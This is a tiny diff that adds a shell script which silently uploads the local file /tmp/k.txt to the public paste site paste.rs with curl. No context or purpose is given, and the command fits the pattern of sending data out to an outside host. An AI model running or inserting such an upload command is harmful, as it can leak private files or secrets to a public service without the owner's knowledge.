@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s --data-binary @/tmp/k.txt https://paste.rs/
